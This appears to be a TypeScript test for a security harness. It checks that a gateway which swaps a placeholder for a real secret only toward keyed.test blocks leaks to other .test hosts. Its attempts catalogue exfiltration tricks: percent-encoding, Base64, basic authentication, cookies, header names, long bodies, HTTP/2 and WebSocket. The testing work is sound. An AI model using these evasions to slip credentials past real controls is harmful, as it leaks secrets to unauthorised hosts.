/** A placeholder taken to a host that it is not for: it must not be sent, and still less what it stands for. */
import { openSecureTunnel, requestThrough } from "../../harness/agent-requests.ts";
import type { AgentRequest } from "../../harness/agent-requests.ts";
import { openHttp2 } from "../../harness/http-over-socket.ts";
import { textOf } from "../attack-bytes.ts";
import { mirroredValue, swappingGateway } from "../swapping-gateway.ts";
import { attempt } from "../technique.ts";
import type { Technique } from "../technique.ts";

const hosts = ["unkeyed.test", "own.test", "injected.test", "header.test", "allowed.test"];

const percentAll = (text: string) =>
  Array.from(text, (unit) => `%${unit.charCodeAt(0).toString(16)}`).join("");

/** Whatever reaches a mirror under another name than keyed.test, or holds the value elsewhere, got through. */
export const placeholderTheft: Technique = {
  name: "placeholder-theft",
  about: "a placeholder to another host, by header, basic authentication, query, path or body",
  prepare: async (rig) => {
    const { run, mirror, placeholder } = await swappingGateway(rig);
    const ask = (name: string, url: string, request: AgentRequest = {}) =>
      attempt(name, async () => textOf(await requestThrough(run, url, request)));
    return {
      control: async () => {
        const before = mirror.requests.length;
        const headers = { authorization: `Bearer ${placeholder}` };
        const response = await requestThrough(run, "https://keyed.test/", { headers });
        const seen = mirror.requests[before]?.headers.authorization;
        return response.status === 200 && seen === `Bearer ${mirroredValue}`;
      },
      isForbidden: ({ path, headers }) =>
        [placeholder, mirroredValue].some((text) =>
          `${path}${JSON.stringify(headers)}`.toLowerCase().includes(text.toLowerCase()),
        ),
      countMore: () => mirror.requests.filter(({ host }) => host !== "keyed.test").length,
      attempts: [
        ...hosts.flatMap((host) => toHost(host, placeholder, ask)),
        ...headerWays(placeholder).map(({ name, headers }) =>
          ask(`unkeyed.test, ${name}`, "https://unkeyed.test/", { headers }),
        ),
        ask("plain HTTP", `http://plain.test/bytes/1?q=${placeholder}`),
        ask("plain HTTP, in a header", "http://plain.test/bytes/1", {
          headers: { "x-any": placeholder },
        }),
        ask("a host that no rule allows", `https://unlisted.test/?q=${placeholder}`),
        ask("a body that is read for another placeholder", "https://own.test/", {
          method: "POST",
          body: `{"stolen":"${placeholder}"}`,
        }),
        ask("a long body that is read", "https://own.test/", {
          method: "POST",
          body: "x".repeat(200_000) + percentAll(placeholder),
        }),
        attempt("HTTP/2", async () => {
          const connection = openHttp2(await openSecureTunnel(run, "unkeyed.test:443", "h2"));
          try {
            const headers = { "x-any": placeholder };
            return textOf(
              await connection.request({ path: "/", authority: "unkeyed.test", headers }),
            );
          } finally {
            connection.close();
          }
        }),
        ask("a WebSocket", "https://unkeyed.test/ws", {
          headers: {
            connection: "Upgrade",
            upgrade: "websocket",
            "sec-websocket-version": "13",
            "sec-websocket-key": "dGhlIHNhbXBsZSBub25jZQ==",
            "sec-websocket-protocol": `key.${placeholder}`,
          },
        }),
      ],
    };
  },
};

function toHost(
  host: string,
  placeholder: string,
  ask: (name: string, url: string, request?: AgentRequest) => ReturnType<typeof attempt>,
) {
  // header.test takes it, in headers only.
  const takesHeaders = host === "header.test";
  return [
    ask(`${host}, query`, `https://${host}/?q=${placeholder}`),
    ask(`${host}, query in another case`, `https://${host}/?q=${placeholder.toUpperCase()}`),
    ask(`${host}, query percent-encoded`, `https://${host}/?q=${percentAll(placeholder)}`),
    ask(
      `${host}, query percent-encoded twice`,
      `https://${host}/?q=${percentAll(placeholder).replaceAll("%", "%25")}`,
    ),
    ask(`${host}, path`, `https://${host}/bytes/${placeholder}`),
    ask(`${host}, basic authentication`, `https://${host}/bytes/1`, {
      headers: { authorization: `Basic ${btoa(`me:${placeholder}`)}` },
    }),
    ask(`${host}, Base64`, `https://${host}/bytes/1`, {
      headers: { "x-any": btoa(`it is ${placeholder}`) },
    }),
    ...(takesHeaders
      ? []
      : [ask(`${host}, header`, `https://${host}/bytes/1`, { headers: { "x-any": placeholder } })]),
  ];
}

function headerWays(placeholder: string) {
  return [
    { name: "cookie", headers: { cookie: `a=1; b=${placeholder}` } },
    { name: "referer", headers: { referer: `https://elsewhere.test/${placeholder}` } },
    { name: "the name of a header", headers: { [`x-${placeholder.toLowerCase()}`]: "1" } },
    { name: "the end of a long header", headers: { "x-any": "a".repeat(8_000) + placeholder } },
    { name: "basic, as the user", headers: { authorization: `Basic ${btoa(`${placeholder}:`)}` } },
    { name: "basic, as a path of Base64", headers: { "x-any": `a/${btoa(`xy${placeholder}`)}` } },
    { name: "a second header of a name", headers: { "x-any": ["1", placeholder] } },
  ];
}
